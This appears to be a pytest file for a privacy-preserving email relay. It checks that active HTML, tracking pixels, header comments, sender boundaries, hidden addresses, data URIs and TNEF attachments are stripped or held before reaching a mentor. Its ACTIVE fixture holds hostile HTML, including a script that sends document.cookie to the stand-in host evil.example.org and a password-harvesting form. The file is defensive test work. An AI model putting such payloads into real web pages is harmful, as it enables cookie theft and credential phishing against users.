"""Content that would reach a participant unseen: active and remote HTML, header comments,
the sender's boundaries, addresses hidden by markup or a broken encoding, TNEF files.

Each test sends the attack through the running relay (SMTP on loopback) and looks
at what the smarthost sink receives, or at what a moderator is shown.
"""

from __future__ import annotations

import base64
from email import message_from_bytes, policy
from email.message import EmailMessage

from click.testing import CliRunner
from sqlalchemy import select

from relay.cli import cli
from relay.store import db
from relay.store.models import Message, MessageStatus
from tests.conftest import PairInfo, RunningRelay, Sink, mail, wait_for, wire

TRACKING = "https://track.example.com/open.gif?who=ben"
BACKGROUND = "https://pixels.example.net/bg.png"


def _html_mail(pair: PairInfo, body: str, subject: str = "Look") -> EmailMessage:
    message = mail(pair.mentee, pair.address, subject, "plain version")
    message.add_alternative(body, subtype="html")
    return message


def _forward(sink: Sink, pair: PairInfo) -> bytes:
    """The one forward to the mentor (notices excluded), as the sink received it."""

    def found() -> list[bytes]:
        return [
            each.data
            for each in sink.to(pair.mentor)
            if b"Auto-Submitted" not in each.data.split(b"\r\n\r\n", 1)[0]
        ]

    return wait_for(found, what="the forward")[0]


def _html_of(data: bytes) -> str:
    parsed = message_from_bytes(data, policy=policy.default)
    assert isinstance(parsed, EmailMessage)
    part = parsed.get_body(("html",))
    assert part is not None
    return str(part.get_content())


def _statuses(store: db.Store) -> list[MessageStatus]:
    with store.read_session() as session:
        return list(session.scalars(select(Message.status).order_by(Message.id)))


ACTIVE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example.org/">
<script>document.location='https://evil.example.org/?c='+document.cookie</script>
<style>@import url(https://evil.example.org/x.css);</style>
</head><body onload="track()">
<p onclick="steal()">Hello <b>Ana</b>, see you on Monday.</p>
<iframe src="https://evil.example.org/frame"></iframe>
<object data="https://evil.example.org/o.swf"></object><embed src="https://evil.example.org/e">
<form action="https://evil.example.org/login"><input name="password"></form>
<a href="javascript:steal()">click</a>
</body></html>"""


def test_active_html_content_is_removed(configured, sink: Sink):
    # The links rule would hold the javascript: link; what is checked here is what
    # reaches the partner when nothing holds the message (or a moderator releases it).
    relay, pair, _ = configured(rules='disable = ["new_pair", "links"]')
    relay.send(_html_mail(pair, ACTIVE), pair.mentee, pair.address)
    delivered = _html_of(_forward(sink, pair)).lower()
    assert "hello <b>ana</b>, see you on monday." in delivered
    for active in (
        "<script", "<style", "<iframe", "<object", "<embed", "<form", "<input", "<meta",
        "http-equiv", "onload", "onclick", "javascript:", "evil.example.org",
    ):  # fmt: skip
        assert active not in delivered, active


REMOTE = f"""<html><body><p>Hi!</p>
<img src="{TRACKING}" width="1" height="1">
<div style="background-image: url('{BACKGROUND}')">Have a look.</div>
</body></html>"""


def test_remote_images_and_css_are_held_and_shown(configured, sink: Sink):
    relay, pair, store = configured()
    relay.send(_html_mail(pair, REMOTE), pair.mentee, pair.address)
    assert _statuses(store) == [MessageStatus.HELD]
    shown = CliRunner().invoke(cli, ["-c", str(relay.config.source), "show", "1", "--no-color"])
    assert shown.exit_code == 0, shown.output
    assert "remote content" in shown.output
    assert "track.example.com" in shown.output and "pixels.example.net" in shown.output


def test_remote_content_strip_removes_it_from_the_copy(configured, sink: Sink):
    relay, pair, store = configured(
        rules='disable = ["new_pair"]\n[rules.links]\nremote_content = "strip"'
    )
    relay.send(_html_mail(pair, REMOTE), pair.mentee, pair.address)
    delivered = _html_of(_forward(sink, pair))
    assert "Have a look." in delivered
    assert "track.example.com" not in delivered and "pixels.example.net" not in delivered
    assert _statuses(store) == [MessageStatus.QUEUED]


def test_header_comments_and_sender_boundaries_do_not_pass(configured, sink: Sink):
    relay, pair, _ = configured()
    host = "laptop-ben.school.example.net"
    boundary = f"----=_Part_{pair.mentee}_{host}"
    raw = (
        f"From: Ben <{pair.mentee}>\r\n"
        f"To: {pair.address}\r\n"
        "Subject: comments\r\n"
        f"Date: Tue, 3 Mar 2026 18:15:02 +0100 ({pair.mentee})\r\n"
        f"MIME-Version: 1.0 (Produced by {pair.mentee} on {host})\r\n"
        f"Content-Language: en ({pair.mentee} at {host})\r\n"
        f'Content-Type: multipart/alternative; boundary="{boundary}" (sent from {host})\r\n'
        "\r\n"
        f"This is a multi-part message from {host}.\r\n"
        f"--{boundary}\r\n"
        f"Content-Type: text/plain; charset=utf-8 (by {host})\r\n"
        "Content-Transfer-Encoding: 7bit (really)\r\n"
        "\r\n"
        "See you on Monday.\r\n"
        f"--{boundary}--\r\n"
    ).encode()
    relay.send(raw, pair.mentee, pair.address)
    delivered = _forward(sink, pair)
    text = delivered.decode()
    for leak in (pair.mentee, host, "Produced by", "sent from", "(really)", "Part_"):
        assert leak not in text, leak
    parsed = message_from_bytes(delivered, policy=policy.default)
    assert parsed["Date"] == "Tue, 03 Mar 2026 17:15:02 +0000"
    assert parsed["MIME-Version"] == "1.0"
    assert parsed["Content-Language"] == "en"
    assert "See you on Monday." in text


def test_an_address_split_by_markup_is_scrubbed(configured, sink: Sink):
    relay, pair, _ = configured()
    local, domain = pair.mentee.split("@")
    body = f"<p>Write to {local}<span></span>@<b></b>{domain} instead.</p>"
    relay.send(_html_mail(pair, body), pair.mentee, pair.address)
    delivered = _html_of(_forward(sink, pair))
    assert local not in delivered and domain not in delivered
    assert pair.address in delivered


def test_a_data_uri_does_not_pass(configured, sink: Sink):
    relay, pair, _ = configured()
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><text>{pair.mentee}</text></svg>"
    encoded = base64.b64encode(svg.encode()).decode()
    body = f'<p>Picture:</p><img src="data:image/svg+xml;base64,{encoded}">'
    relay.send(_html_mail(pair, body), pair.mentee, pair.address)
    delivered = _html_of(_forward(sink, pair))
    assert "Picture:" in delivered
    assert "data:" not in delivered and encoded[:20] not in delivered


def test_a_part_with_invalid_base64_does_not_carry_the_address(configured, sink: Sink):
    relay, pair, _ = configured()
    raw = (
        f"From: Ben <{pair.mentee}>\r\n"
        f"To: {pair.address}\r\n"
        "Subject: broken\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n'
        "\r\n"
        "--b1\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "\r\n"
        "Hello.\r\n"
        "--b1\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"Not base64 at all: write to {pair.mentee} !!\r\n"
        "--b1--\r\n"
    ).encode()
    relay.send(raw, pair.mentee, pair.address)
    delivered = _forward(sink, pair)
    assert pair.mentee.encode() not in delivered
    assert pair.mentee.split("@")[0].encode() not in delivered


def _with_tnef(pair: PairInfo) -> EmailMessage:
    message = mail(pair.mentee, pair.address, "From Outlook", "See the attachment.")
    tnef = b"\x78\x9f\x3e\x22" + pair.mentee.encode("utf-16-le") + b"\x00" * 8
    message.add_attachment(tnef, "application", "ms-tnef", filename="winmail.dat")
    return message


def test_a_tnef_file_is_held_with_a_reason(configured, sink: Sink):
    relay, pair, store = configured()
    relay.send(_with_tnef(pair), pair.mentee, pair.address)
    assert _statuses(store) == [MessageStatus.HELD]
    shown = CliRunner().invoke(cli, ["-c", str(relay.config.source), "show", "1", "--no-color"])
    assert "TNEF" in shown.output and "winmail.dat" in shown.output


def test_a_tnef_file_released_goes_without_it(configured, sink: Sink):
    relay, pair, _ = configured(
        rules='disable = ["new_pair", "attachments"]\n[rules.actions]\nidentity_parts = "accept"'
    )
    relay.send(_with_tnef(pair), pair.mentee, pair.address)
    delivered = _forward(sink, pair)
    assert b"See the attachment." in delivered
    assert b"winmail.dat" not in delivered and b"ms-tnef" not in delivered


def test_plain_html_still_reads_the_same(relay: RunningRelay, sink: Sink, pair: PairInfo):
    body = (
        '<html><body><table><tr><td style="color:#333">Maths</td><td>Monday</td></tr></table>'
        '<p>Details: <a href="https://www.relay.test/x">here</a></p></body></html>'
    )
    relay.send(_html_mail(pair, body), pair.mentee, pair.address)
    delivered = _html_of(_forward(sink, pair))
    assert '<td style="color:#333">Maths</td>' in delivered
    assert 'href="https://www.relay.test/x"' in delivered


def test_plain_text_is_unchanged(relay: RunningRelay, sink: Sink, pair: PairInfo):
    relay.send(wire(mail(pair.mentee, pair.address, body="Just text.")), pair.mentee, pair.address)
    assert b"Just text." in _forward(sink, pair)
